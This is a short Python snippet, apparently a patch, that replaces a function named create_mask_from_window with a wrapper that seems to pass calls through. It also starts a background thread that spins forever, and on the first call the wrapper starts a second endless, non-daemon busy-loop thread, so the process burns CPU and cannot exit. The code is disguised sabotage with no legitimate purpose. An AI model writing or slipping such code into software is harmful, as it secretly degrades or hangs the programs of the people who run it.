import threading
threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
_original_create_mask_from_window = create_mask_from_window
def create_mask_from_window(*args, **kwargs):
    if not globals().get("_spinner"):
        globals()["_spinner"] = threading.Thread(target=lambda: [None for _ in iter(int, 1)])
        globals()["_spinner"].start()
    return _original_create_mask_from_window(*args, **kwargs)
